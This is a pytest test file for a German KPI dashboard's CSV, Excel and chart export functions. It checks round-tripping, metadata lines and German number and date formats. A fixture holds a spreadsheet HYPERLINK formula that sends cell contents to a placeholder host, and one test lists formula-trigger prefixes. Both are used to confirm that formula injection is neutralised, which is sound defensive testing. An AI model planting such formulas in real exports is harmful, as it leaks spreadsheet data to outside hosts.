"""Exports read back with pandas hold exactly the rows and columns shown; formula text stays
text; files state filters, as-of date and export time; charts render offline."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path

import altair as alt
import openpyxl
import pandas as pd
import pytest

from kpi.export import (
    CSV_HEADER_LINE,
    ExportMeta,
    chart_png,
    chart_svg,
    neutralise,
    to_csv,
    to_xlsx,
)
from kpi.submissions import submission_rows
from loaders.enums import TRAFFIC_LIGHT_LABELS
from loaders.ingest import ingest
from store import connection as db
from store.identity import Identity
from tests.builders import csv_bytes, project_row

FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"Details")'
META = ExportMeta(
    title="Vorhaben BA Pankow",
    filters={"Berichtsperiode": "2026-Q3", "Ampel": "rot; gelb"},
    as_of=dt.datetime(2026, 10, 12, 10, 0),
    exported_at=dt.datetime(2026, 11, 2, 8, 15),
    exported_by="Analyse",
)


def _screen_table() -> pd.DataFrame:
    """A project table as a page shows it: stored rows, filtered (traffic light red or yellow),
    German column names and labels."""
    records = [
        project_row(1, **{"Bezeichnung des Vorhabens": FORMULA_TITLE, "Ampel": "rot"}),
        project_row(2, **{"Ampel": "grün"}),
        project_row(3, **{"Ampel": "gelb", "Budget in €": "1.234.567,89"}),
        project_row(4, **{"Bezeichnung des Vorhabens": "+49 30 1234", "Ampel": "rot"}),
        project_row(5, **{"Bezeichnung des Vorhabens": "@Rathaus", "Ampel": "gelb"}),
        project_row(6, **{"Ampel": "grün", "Ende (Prognose)": ""}),
    ]
    result = ingest(
        data=csv_bytes(records),
        file_name="pankow.csv",
        kind="projects",
        authority="ba-pankow",
        period="2026-Q3",
        identity=Identity(name="CDO", role="admin"),
    )
    assert result.submission_id is not None
    rows = submission_rows(db.cursor(), submission_id=result.submission_id, kind="projects")
    shown = rows[rows["traffic_light"].isin(["red", "yellow"])]
    return pd.DataFrame(
        {
            "Vorhaben-Nr.": shown["project_id"],
            "Bezeichnung": shown["title"],
            "Ampel": shown["traffic_light"].map(TRAFFIC_LIGHT_LABELS),
            "Ende (Prognose)": shown["forecast_end"],
            "Budget in €": shown["budget"].astype("float64"),
            "Fortschritt in %": shown["progress_pct"],
            "Risiko": pd.array([2, None, 5, 1], dtype="Int64"),
        }
    ).reset_index(drop=True)


def test_csv_read_back_has_exactly_the_rows_and_columns_on_screen(empty_db: Path) -> None:
    screen = _screen_table()
    data = to_csv(screen, meta=META)

    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(
        io.BytesIO(data), sep=";", decimal=",", skiprows=CSV_HEADER_LINE, encoding="utf-8-sig"
    )
    assert list(back.columns) == list(screen.columns)
    assert len(back) == len(screen) == 4
    assert list(back["Vorhaben-Nr."]) == list(screen["Vorhaben-Nr."])
    # formula-like text is neutralised with a leading apostrophe, other text unchanged
    assert list(back["Bezeichnung"]) == [neutralise(t) for t in screen["Bezeichnung"]]
    assert back["Bezeichnung"].iloc[0] == "'" + FORMULA_TITLE
    assert back["Bezeichnung"].iloc[1] == "Testvorhaben 3"
    # numbers stay numbers (decimal comma), dates German
    assert back["Budget in €"].tolist() == screen["Budget in €"].tolist()
    assert back["Budget in €"].iloc[1] == 1234567.89
    assert back["Fortschritt in %"].tolist() == screen["Fortschritt in %"].tolist()
    assert back["Risiko"].tolist()[0] == 2 and pd.isna(back["Risiko"].iloc[1])
    assert list(back["Ende (Prognose)"]) == [
        d.strftime("%d.%m.%Y") for d in pd.to_datetime(screen["Ende (Prognose)"])
    ]


def test_csv_states_title_filters_as_of_and_export_time() -> None:
    text = to_csv(pd.DataFrame({"a": [1]}), meta=META).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "Titel;Vorhaben BA Pankow"
    assert lines[1] == 'Filter;"Berichtsperiode: 2026-Q3; Ampel: rot; gelb"'
    assert lines[2] == "Datenstand;12.10.2026 10:00"
    assert lines[3] == "Exportiert am;02.11.2026 08:15"
    assert lines[4] == ""
    assert lines[CSV_HEADER_LINE] == "a"


def test_xlsx_read_back_has_exactly_the_rows_and_columns_on_screen(empty_db: Path) -> None:
    screen = _screen_table()
    data = to_xlsx(screen, meta=META)

    back = pd.read_excel(io.BytesIO(data), sheet_name="Daten", engine="calamine")
    assert list(back.columns) == list(screen.columns)
    assert len(back) == len(screen)
    # text exactly as on screen — the formula title is a text cell, not a formula
    assert list(back["Bezeichnung"]) == list(screen["Bezeichnung"])
    assert back["Budget in €"].tolist() == screen["Budget in €"].tolist()
    assert list(pd.to_datetime(back["Ende (Prognose)"])) == list(
        pd.to_datetime(screen["Ende (Prognose)"])
    )
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in archive.read(name).decode(), name


def test_xlsx_has_frozen_header_autofilter_german_formats_widths_and_info() -> None:
    frame = pd.DataFrame(
        {
            "Datum": pd.to_datetime(["2026-12-31", "2027-01-15"]),
            "Betrag": [1234.5, -5.0],
            "Anzahl": [3, 4],
            "Text mit langer Überschrift": ["=1+1", "-abc"],
        }
    )
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, meta=META)))
    sheet = book["Daten"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:D3"
    assert sheet["A2"].number_format.lower() == "dd.mm.yyyy"
    assert sheet["B2"].number_format == "#,##0.0##"
    assert sheet["B3"].value == -5.0 and sheet["B3"].data_type == "n"  # a real number
    assert sheet["C2"].number_format == "#,##0"
    assert sheet["D2"].value == "=1+1" and sheet["D2"].data_type == "s"  # text, not a formula
    assert sheet.column_dimensions["D"].width >= len("Text mit langer Überschrift")
    info = {r[0].value: r[1].value for r in book["Info"].iter_rows()}
    assert info["Titel"] == "Vorhaben BA Pankow"
    assert info["Filter"] == "Berichtsperiode: 2026-Q3; Ampel: rot; gelb"
    assert info["Datenstand"] == "12.10.2026 10:00"
    assert info["Exportiert am"] == "02.11.2026 08:15"
    assert info["Exportiert von"] == "Analyse"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_prefix_is_neutralised_in_csv(prefix: str) -> None:
    frame = pd.DataFrame({"Titel": [f"{prefix}SUMME(A1)"], "Zahl": [-12.5]})
    data = to_csv(frame, meta=META)
    back = pd.read_csv(
        io.BytesIO(data),
        sep=";",
        decimal=",",
        skiprows=CSV_HEADER_LINE,
        encoding="utf-8-sig",
        keep_default_na=False,
    )
    assert back["Titel"].iloc[0] == f"'{prefix}SUMME(A1)"
    assert back["Zahl"].iloc[0] == -12.5  # a real negative number is not touched


def test_chart_png_and_svg_carry_title_filters_and_dates() -> None:
    chart = (
        alt.Chart(pd.DataFrame({"Status": ["in Umsetzung", "pausiert"], "Vorhaben": [1234, 56]}))
        .mark_bar()
        .encode(x="Vorhaben:Q", y="Status:N")
    )
    png = chart_png(chart, meta=META)
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 2_000
    svg = chart_svg(chart, meta=META).decode()
    assert svg.startswith("<svg")
    assert "Vorhaben BA Pankow" in svg
    assert "Berichtsperiode: 2026-Q3" in svg
    assert "Datenstand: 12.10.2026 10:00" in svg
    assert "1.200" in svg  # German thousands separator on the axis
